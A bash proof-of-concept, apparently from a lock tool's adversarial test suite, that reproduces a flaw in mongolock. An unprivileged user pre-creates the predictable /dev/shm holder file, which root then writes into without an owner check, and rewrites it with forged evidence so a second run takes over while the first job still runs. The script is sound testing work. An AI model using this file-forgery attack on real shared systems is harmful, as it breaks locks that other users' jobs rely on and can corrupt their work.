#!/usr/bin/env bash
# X2: the holder file /dev/shm/mongolock-run-PID-START.lock pre-created by another user (nobody). Its name is
# predictable (pid, start time in ticks; an attacker can spray a range). mongolock (root) opens it without
# O_EXCL (fs.protected_regular=0 here) and checks no owner, so it writes its evidence into nobody's file.
# After mongolock + guardian are killed -9 with a part of the job running on, nobody rewrites the file's
# evidence: a process group that does not exist and a "removed" cgroup (a path below the cgroup2 mount that
# does not exist: counted as empty). (Truncating it is not enough: an empty file is swept as a waiter's.)
# The next run on the host takes over at once while the job's setsid worker runs.
# Usage: x2_holder_file_precreated.sh [N] [on|off]  (off: MONGOLOCK_CGROUP=off)
set -u
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
n=${1:-3}; mode=${2:-on}; k=0
[[ $mode == off ]] && export MONGOLOCK_CGROUP=off
echo "fs.protected_regular=$(sysctl -n fs.protected_regular)"
for t in $(seq $n); do
  N=x2-$t-$RANDOM; F=$ADV_T/x2-$t.holders; rm -f $F $ADV_T/job
  # the holder, stopped before its exec (the pid and start time of mongolock are those of this process)
  sh -c "kill -STOP \$\$; exec $ML run -v $N --ttl 30s -- sh -c 'echo \$\$ >$ADV_T/job; setsid python3 $HOLDERS_PY job $F --seconds 8 & exec sleep 300'" >$ADV_T/h.out 2>$ADV_T/h.err &
  RUN_PID=$!
  while [[ $(awk '{print $3}' /proc/$RUN_PID/stat) != T ]]; do sleep 0.01; done
  start=$(awk '{print $22}' /proc/$RUN_PID/stat)
  file=/dev/shm/mongolock-run-$RUN_PID-$start.lock
  setpriv --reuid nobody --regid nogroup --clear-groups sh -c "umask 0; : >$file"
  kill -CONT $RUN_PID
  for i in $(seq 100); do [[ -s $ADV_T/job ]] && break; sleep 0.1; done
  JOB_PID=$(cat $ADV_T/job); GUARDIAN_PID=$(ps -o ppid= -p "$JOB_PID" | tr -d ' ')
  sleep 1
  echo "  holder file: $(stat -c '%U %s bytes' $file) [$(tr '\n' ' ' <$file)]"
  kill_holder
  setpriv --reuid nobody --regid nogroup --clear-groups sh -c "printf '4000000\\n%s\\n' $CG/mongolock-job-forged >$file"
  echo "  rewritten by nobody: [$(tr '\n' ' ' <$file)]"
  $ML run -v $N -- python3 $HOLDERS_PY job $F --seconds 2 >$ADV_T/x2.out 2>$ADV_T/x2.err
  rc=$?
  msg=$(grep -h 'taken over\|not taking' $ADV_T/x2.err | head -1)
  ov=$(overlap $F)
  echo "trial $t ($mode): contender rc=$rc; $ov; $msg"
  [[ $rc == 0 && $ov != *max_cross_run_overlap_ms=0.0* ]] && k=$((k + 1))
  cleanup_jobs $F; rm -f $file; sleep 0.5
done
echo "X2 RESULT ($mode): overlap in $k of $n"
